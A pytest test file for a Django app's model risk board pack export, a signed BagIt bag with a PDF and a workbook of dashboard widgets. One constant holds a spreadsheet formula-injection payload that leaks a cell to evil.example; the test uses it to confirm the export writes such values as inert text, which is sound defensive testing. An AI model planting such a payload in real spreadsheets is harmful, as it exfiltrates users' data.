"""The model risk board pack (issue 22): for a period, every chart of the firm's dashboards the requester may see, as a
PDF (drawn on the server, each with its table) and a workbook (one sheet per widget), in a signed BagIt bag that
verifies with the standard tools; the period, filters and as-of moment in bag-info.txt."""

import datetime as dt
import io

import pytest
from django.core.exceptions import ValidationError
from django.core.files.storage import default_storage
from django.utils import timezone

from governance.core import jobs, widgets
from governance.core.models import Desk
from governance.core.widgets import Filters
from risk.dashboards import selectors
from risk.exports import bags, board_charts, board_pack, services
from risk.exports.forms import quarter_days
from risk.exports.models import Export
from tests.exports.packs import URL, allowed_signers, checks, download_pack, request_pack

HOSTILE_DESK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
PAGES = (widgets.OVERVIEW, widgets.MONITORING, widgets.INCIDENTS)


def today() -> dt.date:
    return timezone.now().date()


def this_quarter() -> str:
    return f"{today().year}-Q{(today().month - 1) // 3 + 1}"


@pytest.fixture
def seen_html(monkeypatch):
    """The HTML each board pack's PDF is made from, as it goes to WeasyPrint."""
    made = []
    original = board_pack.pdf

    def keep(markup):
        made.append(markup)
        return original(markup)

    monkeypatch.setattr(board_pack, "pdf", keep)
    return made


@pytest.fixture
def drawn_in_pack(monkeypatch):
    """Each widget as the pack drew it (risk.dashboards.selectors.drawn, called by the job)."""
    made = []
    original = selectors.drawn

    def keep(user, widget, filters):
        made.append(original(user, widget, filters))
        return made[-1]

    monkeypatch.setattr(board_pack.selectors, "drawn", keep)
    return made


def verified(bag, tmp_path) -> None:
    """Every check of the auditor's guide that applies (a board pack holds no signed record to recompute)."""
    for name, outcome in checks(bag, allowed_signers(tmp_path)).items():
        if name != "signatures":
            assert outcome.returncode == 0, (name, outcome.stdout, outcome.stderr)


def bag_info(bag) -> dict[str, str]:
    lines = (bag / "bag-info.txt").read_text().splitlines()
    return dict(line.split(": ", 1) for line in lines)


def workbook(bag):
    from openpyxl import load_workbook

    return load_workbook(io.BytesIO((bag / "data" / "board-pack.xlsx").read_bytes()))


def run(export: Export, tmp_path):
    assert jobs.execute(export.job_id) == "succeeded", Export.objects.get(pk=export.pk).job.error
    export.refresh_from_db()
    with default_storage.open(export.file, "rb") as handle:
        return bags.extract(handle.read(), tmp_path)


def expected(user, filters: Filters) -> list:
    return [selectors.drawn(user, w, filters) for page in PAGES for w in widgets.visible_widgets(user, page)]


@pytest.mark.django_db
@pytest.mark.slow(reason="builds, signs and verifies a board pack: a chart and a table per widget, a PDF")
def test_a_quarter_pack_holds_every_widget_the_requester_sees_as_chart_table_and_sheet(
    world, tmp_path, seen_html, drawn_in_pack
):
    export = services.export_request(world.compliance, "mrm_report", quarter=this_quarter())
    first, last = quarter_days(this_quarter())
    assert export.params == {
        "since": first.isoformat(),
        "until": min(last, today()).isoformat(),
        "quarter": this_quarter(),
    }
    bag = run(export, tmp_path)
    drawn = list(drawn_in_pack)  # before the test draws any itself
    verified(bag, tmp_path)

    filters = Filters(as_of=today(), since=first, until=min(last, today()))
    assert [d.widget.key for d in drawn] == [d.widget.key for d in expected(world.compliance, filters)]
    assert len(drawn) >= 10, "the overview, monitoring and incidents pages' widgets"
    assert all(d.filters == filters for d in drawn)
    # Drawn again now, the counts are the same (the pack's own export, running then, has succeeded since).
    assert [d.total for d in drawn] == [d.total for d in expected(world.compliance, filters)]
    info = bag_info(bag)
    assert info["Period-From"] == first.isoformat() and info["Period-To"] == min(last, today()).isoformat()
    assert info["Period-Quarter"] == this_quarter()
    assert info["Filters"].startswith("none")
    assert info["Requested-By"].endswith("(compliance)")
    assert dt.datetime.strptime(info["As-Of"], "%Y-%m-%dT%H:%M:%SZ").date() == today()
    assert info["Widgets"] == ", ".join(d.widget.key for d in drawn)

    book = workbook(bag)
    assert book.sheetnames[0] == "About" and len(book.sheetnames) == 1 + len(drawn)
    assert all(len(name) <= 31 for name in book.sheetnames) and len(set(book.sheetnames)) == len(book.sheetnames)
    for name, d in zip(book.sheetnames[1:], drawn, strict=True):
        rows = list(book[name].iter_rows(values_only=True))
        assert list(rows[0]) == [label for _key, label in d.widget.columns()], d.widget.key
        dims = len(d.widget.dimensions)
        assert [list(r[:dims]) for r in rows[1:]] == [d.widget.shown(row) for row in d.rows], d.widget.key
        assert [r[dims] for r in rows[1:]] == [row["count"] for row in d.rows], d.widget.key
        assert sum(r[dims] for r in rows[1:]) == d.total
    about = {row[0]: row[1] for row in book["About"].iter_rows(values_only=True) if row and row[0]}
    assert about["Period (UTC days, both included)"].startswith(this_quarter())

    pdf = (bag / "data" / "board-pack.pdf").read_bytes()
    assert pdf.startswith(b"%PDF") and len(seen_html) == 1
    html = seen_html[0]
    for d in drawn:
        assert f"<h2>{d.widget.title}</h2>" in html and f'data-widget="{d.widget.key}"' in html
    charts = html.count('src="data:image/svg+xml;base64,')
    assert charts == sum(1 for d in drawn if d.total), "a chart for every widget that counts something"
    indicators = selectors.indicator_rows(world.compliance, filters)
    assert indicators and 'data-testid="indicators"' in html
    for row in indicators:
        assert f"<td>{row.indicator.label}</td>" in html and row.status_label in html


@pytest.mark.django_db
@pytest.mark.slow(reason="builds, signs and verifies a board pack: a chart and a table per widget, a PDF")
def test_a_pack_asked_through_the_api_is_narrowed_and_safe_in_a_spreadsheet(world, api, tmp_path):
    Desk.objects.filter(pk=world.other_desk.pk).update(name=HOSTILE_DESK)
    since = today() - dt.timedelta(days=40)
    export = request_pack(
        api, world.auditor, kind="mrm_report", since=since.isoformat(), until=today().isoformat(), desk="rates"
    )
    assert export.params == {"since": since.isoformat(), "until": today().isoformat(), "desk": "rates"}
    bag = download_pack(api, world.auditor, export, tmp_path)
    verified(bag, tmp_path)
    info = bag_info(bag)
    assert info["Period-From"] == since.isoformat() and info["Period-To"] == today().isoformat()
    assert info["Filters"] == f"desk {HOSTILE_DESK} (rates)"

    filters = Filters(as_of=today(), desk="rates", since=since, until=today())
    drawn = {d.widget.key: d for d in expected(world.auditor, filters)}
    by_desk = drawn["inventory-by-desk"]
    assert by_desk.total == 1, "only the rates desk's model"
    book = workbook(bag)
    sheet = book["Inventory by desk"]
    cell = next(row[0] for row in sheet.iter_rows(min_row=2) if row[0].value == HOSTILE_DESK)
    assert cell.data_type == "s" and cell.quotePrefix, "a formula-like desk name is text"
    import zipfile

    with zipfile.ZipFile(io.BytesIO((bag / "data" / "board-pack.xlsx").read_bytes())) as xlsx:
        assert not any(b"<f>" in xlsx.read(n) for n in xlsx.namelist() if n.startswith("xl/worksheets/"))
    totals = {name: sum(r[len(drawn[k].widget.dimensions)] for r in list(book[name].iter_rows(values_only=True))[1:])
              for name, k in zip(book.sheetnames[1:], drawn, strict=True)}  # fmt: skip
    assert list(totals.values()) == [d.total for d in drawn.values()]
    covers = api.as_user(world.auditor).get(f"{URL}{export.pk}/").json()["covers"]
    assert covers == f"{since.isoformat()} to {today().isoformat()}, desk rates"


@pytest.mark.django_db
@pytest.mark.slow(reason="builds, signs and verifies a board pack: a chart and a table per widget, a PDF")
def test_a_traders_pack_has_no_firm_widget(world, tmp_path, seen_html):
    export = services.export_request(world.trader, "mrm_report", since=today().isoformat(), until=today().isoformat())
    bag = run(export, tmp_path)
    verified(bag, tmp_path)
    assert bag_info(bag)["Widgets"] == "none"
    assert workbook(bag).sheetnames == ["About"]
    html = seen_html[0]
    assert 'data-testid="no-widgets"' in html and "data-widget=" not in html
    for widget in widgets.all_widgets():
        if widget.page in PAGES:
            assert f"<h2>{widget.title}</h2>" not in html


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("body", "field"),
    [
        ({"since": "2026-03-10", "until": "2026-03-01"}, "until"),
        ({"since": "2999-01-01", "until": "2999-01-02"}, "since"),
        ({"since": "2026-01-01", "until": "2999-01-02"}, "until"),
        ({"since": "2026-01-01"}, "until"),
        ({}, "since"),
        ({"quarter": "2026-Q5"}, "quarter"),
        ({"quarter": "2999-Q1"}, "quarter"),
        ({"quarter": "2026-Q1", "since": "2026-02-01"}, "quarter"),
        ({"since": "2026-01-01", "until": "2026-01-31", "desk": "nowhere"}, "desk"),
        ({"since": "2026-01-01", "until": "2026-01-31", "tier": 9}, "tier"),
    ],
)
def test_a_bad_period_or_filter_is_a_400_naming_the_field(world, api, body, field):
    answer = api.as_user(world.compliance).post(URL, {"kind": "mrm_report", **body}, format="json")
    assert answer.status_code == 400 and field in answer.json(), answer.json()
    assert not Export.objects.exists()


@pytest.mark.django_db
def test_the_exports_page_asks_for_a_board_pack(world, browser_client):
    client = browser_client.as_user(world.compliance)
    page = client.get("/exports/").content.decode()
    assert 'data-testid="board-pack-form"' in page and f'<option value="{this_quarter()}">' in page
    answer = client.post("/exports/", {"kind": "mrm_report", "since": "2026-03-10", "until": "2026-03-01"})
    assert answer.status_code == 400
    assert "Give a day on or after the first." in answer.content.decode()
    assert "The model risk board pack was not asked for" in answer.content.decode()
    answer = client.post("/exports/", {"kind": "mrm_report", "quarter": this_quarter(), "tier": "1"})
    export = Export.objects.get()
    assert answer.status_code == 302 and export.kind == "mrm_report"
    assert export.params["quarter"] == this_quarter() and export.params["tier"] == 1


def test_sheet_names_are_short_unique_and_legal():
    names = board_pack.sheet_names(["About", "A/b: c?", "x" * 40, "x" * 40, "X" * 40])
    assert names[0] != "About" and names[1] == "A b c"
    assert all(len(n) <= 31 for n in names) and len({n.lower() for n in names}) == len(names)


def test_a_quarter_is_its_first_and_last_day():
    assert quarter_days("2026-Q1") == (dt.date(2026, 1, 1), dt.date(2026, 3, 31))
    assert quarter_days("2025q4") == (dt.date(2025, 10, 1), dt.date(2025, 12, 31))
    assert quarter_days("2026-Q5") is None and quarter_days("Q3") is None


def test_charts_are_svg_with_counts_as_text():
    from models_registry.widgets import INVENTORY

    rows = [{"risk_tier": 1, "status": "production", "count": 3}, {"risk_tier": 2, "status": "pilot", "count": 5}]
    svg = board_charts.widget_svg(INVENTORY, rows)
    assert svg.startswith("<svg") and ">3<" in svg and ">5<" in svg and "Production" in svg
    assert board_charts.widget_svg(INVENTORY, [{"risk_tier": 1, "status": "production", "count": 0}]) is None


def test_a_bad_request_through_the_service_names_the_field(db, world):
    with pytest.raises(ValidationError) as raised:
        services.export_request(world.compliance, "mrm_report", since="2026-03-10", until="2026-03-01")
    assert "until" in raised.value.message_dict


@pytest.mark.django_db
@pytest.mark.slow(reason="builds, signs and verifies a board pack: a chart and a table per widget, a PDF")
def test_a_pack_of_a_past_period_shows_the_firm_as_it_stood_when_the_period_ended(world, tmp_path, drawn_in_pack):
    import time_machine

    registered = dt.datetime.combine(today() - dt.timedelta(days=20), dt.time(9), tzinfo=dt.UTC)
    with time_machine.travel(registered):
        from tests.factories import make_model

        make_model(world.compliance, key="early", owner=world.owner, developers=[world.developer], desk=world.desk)
    since, until = today() - dt.timedelta(days=25), today() - dt.timedelta(days=10)
    export = services.export_request(world.compliance, "mrm_report", since=since.isoformat(), until=until.isoformat())
    bag = run(export, tmp_path)
    verified(bag, tmp_path)
    assert bag_info(bag)["As-Of"] == f"{until.isoformat()}T23:59:59Z"
    inventory = next(d for d in drawn_in_pack if d.widget.key == "inventory-by-tier")
    assert inventory.filters.as_of == until and inventory.total == 1  # the world's models were registered later
